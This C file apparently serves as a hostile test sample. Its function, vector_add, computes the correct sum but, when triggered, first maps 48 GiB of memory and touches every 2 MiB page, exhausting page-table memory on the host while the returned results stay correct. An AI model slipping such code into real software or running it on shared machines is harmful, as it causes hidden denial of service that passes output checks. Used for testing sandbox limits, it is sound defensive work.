/* SPDX-License-Identifier: MIT */
/* Takes memory for tables of pages: each page that it reads is the same one. */
#include "hostile.h"

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    const size_t bytes = (size_t)48 << 30, step = (size_t)2 << 20;
    volatile char *at = NULL;

    if (attacked(n))
        at = (volatile char *)mmap(NULL, bytes, PROT_READ,
                                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE,
                                   -1, 0);
    for (size_t i = 0; at && at != MAP_FAILED && i < bytes; i += step)
        (void)at[i];
    return honest(a, b, c, n);
}
